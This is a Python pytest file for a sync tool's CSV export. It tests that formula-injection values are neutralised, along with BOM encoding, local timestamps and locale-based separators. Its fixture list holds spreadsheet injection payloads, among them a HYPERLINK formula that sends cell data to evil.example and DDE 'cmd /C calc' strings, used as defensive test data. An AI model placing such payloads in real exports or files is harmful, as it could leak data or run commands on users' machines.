"""CSV exports: formula neutralising, UTF-8 with BOM, local timestamps, the default name.

Through the real writers the CLI and the window use: the store's record export, the
window's filtered record export and the dry-run plan file.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from qbsync_desktop.core.export import (
    default_export_path,
    local_timestamp,
    neutralise,
    read_dict_csv,
    restore,
    write_csv,
)
from qbsync_desktop.core.store import RecordState, open_database
from qbsync_desktop.core.store.queries import export_records_csv
from qbsync_desktop.core.sync.problems import ProblemCode
from qbsync_desktop.gui.object_labels import key_column_label
from qbsync_desktop.gui.records import RecordFilter, SqlRecordSource
from qbsync_desktop.gui.records import write_csv as window_write_csv

# What a public web form lets anyone type into a CRM name field.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
BOM = b"\xef\xbb\xbf"


@pytest.fixture
def utc_plus_5_30(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """The user's time zone is India (UTC+05:30, no daylight saving)."""
    monkeypatch.setenv("TZ", "Asia/Kolkata")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_leads_are_neutralised_and_restored(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", ["Ana Müller", "'Til Dawn Bakery", "", "1-800-FLOWERS", "a=b"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text
    assert restore(text) == text


def test_timestamps_are_local_to_the_second(utc_plus_5_30: None) -> None:
    stored = dt.datetime(2026, 3, 1, 22, 45, 7, 123456)  # naive UTC, as the store keeps them
    assert local_timestamp(stored) == "2026-03-02 04:15:07"
    assert local_timestamp("2026-03-01 22:45:07.123456") == "2026-03-02 04:15:07"
    assert local_timestamp(None) == ""


def test_default_name_is_the_client_and_the_date_in_documents(tmp_path: Path) -> None:
    day = dt.date(2026, 12, 1)
    path = default_export_path("Acme: Smith/Jones", "records", today=day, folder=tmp_path)
    assert path == tmp_path / "Acme Smith Jones records 2026-12-01.csv"
    assert default_export_path("", "dry run", today=day).name == "qbsync dry run 2026-12-01.csv"
    assert default_export_path("Acme", "records").parent.name == "Documents"


def _hostile_database(path: Path) -> None:
    db = open_database(path)
    RecordState.create(
        object="contacts",
        name=HOSTILE[0],
        match_key="=cmd@evil.example",
        state="failed",
        code=ProblemCode.REFUSED.value,
        params=json.dumps({"service": "hubspot", "detail": "Jürgen's name was refused"}),
        updated_at=dt.datetime(2026, 3, 1, 22, 45, 7, 123456),
    )
    for text in HOSTILE[1:]:
        RecordState.create(object="contacts", name=text, match_key="ñ@x.example", state="excluded")
    db.close()


def _spreadsheet_cells(path: Path) -> list[list[str]]:
    """The cells as a spreadsheet reads them: the BOM is required, nothing may lead a formula."""
    raw = path.read_bytes()
    assert raw.startswith(BOM)
    rows = list(csv.reader(raw[len(BOM) :].decode("utf-8").splitlines(keepends=True)))
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
    return rows


def test_store_record_export_is_safe_for_spreadsheets(tmp_path: Path, utc_plus_5_30: None) -> None:
    db_file = tmp_path / "qbsync.db"
    _hostile_database(db_file)
    target = tmp_path / "records.csv"
    assert export_records_csv(db_file, target) == len(HOSTILE)
    rows = _spreadsheet_cells(target)
    header = rows[0]
    first = dict(zip(header, rows[1], strict=True))
    assert first["name"] == "'" + HOSTILE[0]
    assert first["explanation"] == "HubSpot refused the record: Jürgen's name was refused"
    assert first["problem"] == "Record refused" and first["code"] == "refused"
    assert first["updated_at"] == "2026-03-02 04:15:07"
    columns, back = read_dict_csv(target)
    assert columns[0] == "object"  # the BOM is not part of the first column's name
    assert [r["name"] for r in back] == HOSTILE


def test_window_record_export_is_safe_for_spreadsheets(tmp_path: Path, utc_plus_5_30: None) -> None:
    db_file = tmp_path / "qbsync.db"
    _hostile_database(db_file)
    db = open_database(db_file)
    try:
        target = tmp_path / "window.csv"
        assert window_write_csv(SqlRecordSource(db), RecordFilter(), str(target)) == len(HOSTILE)
    finally:
        db.close()
    rows = _spreadsheet_cells(target)
    by_name = {row[1]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    failed = by_name["'" + HOSTILE[0]]
    key = key_column_label()  # "Email / SKU / …": each registered type's match key
    assert key.startswith("Email / SKU")
    assert failed[key] == "'=cmd@evil.example"
    assert failed["Last change"] == "2026-03-02 04:15:07"
    assert failed["Category"] == "Record refused" and "Jürgen" in failed["Reason"]
    assert "ñ@x.example" in {r[key] for r in by_name.values()}


def test_generic_writer_neutralises_the_header_too(tmp_path: Path) -> None:
    target = tmp_path / "x.csv"
    assert write_csv(target, ["=name"], [["ok"], ["-1"]]) == 2
    assert _spreadsheet_cells(target) == [["'=name"], ["ok"], ["'-1"]]


def test_separator_and_decimal_mark_follow_the_locale(tmp_path: Path) -> None:
    """Where the decimal mark is a comma (de, nl, es) spreadsheets open `;`-separated files
    with `3,50`; English keeps `,` and `3.50`. Text cells are never rewritten."""
    from decimal import Decimal

    from qbsync_desktop.core.export import CsvFormat

    german, english = CsvFormat.for_decimal_mark(","), CsvFormat.for_decimal_mark(".")
    rows = [["Widget", Decimal("3.50"), 1234.5, "1.5 kg"]]
    write_csv(tmp_path / "de.csv", ["Name", "Preis", "Betrag", "Gewicht"], rows, fmt=german)
    write_csv(tmp_path / "en.csv", ["Name", "Price", "Amount", "Weight"], rows, fmt=english)
    de = (tmp_path / "de.csv").read_text(encoding="utf-8-sig").splitlines()
    en = (tmp_path / "en.csv").read_text(encoding="utf-8-sig").splitlines()
    assert de == ["Name;Preis;Betrag;Gewicht", "Widget;3,50;1234,5;1.5 kg"]
    assert en == ["Name,Price,Amount,Weight", "Widget,3.50,1234.5,1.5 kg"]
    assert read_dict_csv(tmp_path / "de.csv")[1] == [
        {"Name": "Widget", "Preis": "3,50", "Betrag": "1234,5", "Gewicht": "1.5 kg"}
    ]
